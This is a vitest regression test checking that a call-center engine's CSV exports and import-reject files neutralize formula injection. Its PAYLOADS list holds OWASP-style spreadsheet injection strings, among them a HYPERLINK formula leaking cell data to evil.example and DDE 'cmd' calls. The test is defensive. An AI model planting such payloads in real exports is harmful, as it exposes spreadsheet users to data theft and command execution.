/**
 * Regression test for CSV injection: every column of every CSV the engine writes (History's export
 * from a real SQLite store, an import's rejected rows through the import commands) comes out with
 * formula-looking text neutralized, and a CSV parser reads back exactly the guarded text.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';

import { historyCommandHandlers } from './calls/history-commands.js';
import { EXPORT_COLUMNS } from './calls/history-export.js';
import { importCommandHandlers } from './contacts/import-commands.js';
import { csvSafeCell } from './csv-safe.js';
import { EventHub } from './events/index.js';
import { silentLogger } from './log.js';
import { useTempDirs, useTestStores } from './store/testing/temp.js';

/** What attackers put in cells: OWASP's examples and the tab / CR variants. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-1+1',
  '\t=1+1',
  '\r=1+1',
] as const;

const testStore = useTestStores();
const tempDir = useTempDirs();

describe('csvSafeCell', () => {
  it('prefixes a quote mark to a cell starting with =, +, -, @, tab or CR, and nothing else', () => {
    for (const payload of PAYLOADS) expect(csvSafeCell(payload)).toBe(`'${payload}`);
    expect(csvSafeCell('+8613800138000')).toBe("'+8613800138000");
    for (const plain of [
      '',
      'Ann',
      '王先生',
      '13800138000',
      'a=1',
      ' =1',
      "'=1",
      '[0:00.3] Bot: hi',
    ])
      expect(csvSafeCell(plain)).toBe(plain);
  });
});

describe('History export (calls.export) guards every column', () => {
  it('neutralizes formulas in number, contact, campaign, disposition, end reason and call id', async () => {
    const store = await testStore();
    const ids: string[] = [];
    for (const [i, payload] of PAYLOADS.entries()) {
      const list = await store.contacts.createList({ name: `list ${i}` });
      await store.contacts.upsertContacts(list.id, [{ phone: `+861380013800${i}`, name: payload }]);
      const [contact] = await store.contacts.contacts(list.id);
      const campaign = await store.campaigns.create({ name: payload, listId: list.id });
      // A flow's disposition code is registered on first use (CallBot.storeDisposition).
      await store.dispositions.upsert({
        code: payload,
        labelEn: payload,
        labelZh: payload,
        kind: 'system',
        final: true,
      });
      const id = i === 0 ? payload : `call-${i}`;
      ids.push(id);
      await store.calls.create({
        id,
        number: i === 1 ? payload : `+861380013800${i}`,
        contactId: contact!.id,
        campaignId: campaign.id,
        startedAt: Date.UTC(2026, 10, 1, 9, i),
      });
      await store.calls.update(id, {
        state: 'done',
        outcome: 'completed',
        dispositionCode: payload,
        endReason: payload,
        answeredAt: Date.UTC(2026, 10, 1, 9, i, 5),
        endedAt: Date.UTC(2026, 10, 1, 9, i, 30),
      });
      await store.calls.addUtterance(id, {
        speaker: 'customer',
        text: payload,
        startMs: 300,
        endMs: 2_000,
      });
    }
    const page = await historyCommandHandlers({ store, dataDir: '/nowhere', actor: 'test' })[
      'calls.export'
    ]({
      limit: 50,
      offset: 0,
      // The raw values, to see each one guarded (a masked export is guarded the same way).
      unmasked: true,
    });
    const records = parse(page.csv, { columns: true }) as Array<Record<string, string>>;
    expect(Object.keys(records[0]!)).toEqual([...EXPORT_COLUMNS]);
    expect(records).toHaveLength(PAYLOADS.length);
    for (const record of records) {
      // No cell of the file starts as a formula.
      for (const column of EXPORT_COLUMNS) expect(record[column]).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Newest first: the last payload's call is the first row.
    const byPayload = [...records].reverse();
    for (const [i, payload] of PAYLOADS.entries()) {
      const record = byPayload[i]!;
      expect(record).toMatchObject({
        contact: `'${payload}`,
        campaign: `'${payload}`,
        disposition: `'${payload}`,
        end_reason: `'${payload}`,
        number: `'${i === 1 ? payload : `+861380013800${i}`}`,
        transcript: `[0:00.3] Customer: ${payload}`,
      });
    }
    expect(byPayload[0]!.call_id).toBe(`'${ids[0]!}`);
    expect(byPayload[1]!.call_id).toBe('call-1');
  });
});

describe("an import's rejected rows (imports.rejects) guard every column", () => {
  it('neutralizes formulas in the raw row text', async () => {
    const store = await testStore();
    const dataDir = await tempDir();
    const handlers = importCommandHandlers({
      store,
      dataDir,
      events: new EventHub(),
      actor: 'test',
      log: silentLogger,
    });
    // The phone column comes first, so each bad row's raw text starts with its payload.
    const rows = [
      'phone,name',
      '13800138000,Good',
      ...PAYLOADS.map((p, i) => `${p.replace(/[\r",]/g, (c) => (c === '\r' ? '' : ' '))},Bad ${i}`),
    ];
    const file = Buffer.from(`${rows.join('\n')}\n`);
    const { id } = await handlers['imports.begin']({ fileName: 'leads.csv', bytes: file.length });
    await handlers['imports.chunk']({ id, offset: 0, data: file.toString('base64') });
    const preview = await handlers['imports.preview']({ id });
    await handlers['imports.commit']({
      id,
      list: 'Leads',
      createList: true,
      mapping: preview.columns.map((c) => ({ header: c.header, field: c.suggested })),
      defaultRegion: 'CN',
    });
    let status = await handlers['imports.status']({ id });
    for (let i = 0; i < 200 && status.state !== 'done' && status.state !== 'failed'; i++) {
      await new Promise((resolve) => setTimeout(resolve, 25));
      status = await handlers['imports.status']({ id });
    }
    expect(status.state).toBe('done');
    const { text } = await handlers['imports.rejects']({ id, offset: 0 });
    const records = parse(text, { columns: true }) as Array<Record<string, string>>;
    expect(records.map((r) => r.row)).toEqual(PAYLOADS.map((_, i) => String(i + 3)));
    for (const [i, record] of records.entries()) {
      for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
      expect(record.raw).toMatch(/^'[=+\-@\t]/);
      expect(record.raw!.endsWith(`,Bad ${i}`)).toBe(true);
    }
  });
});
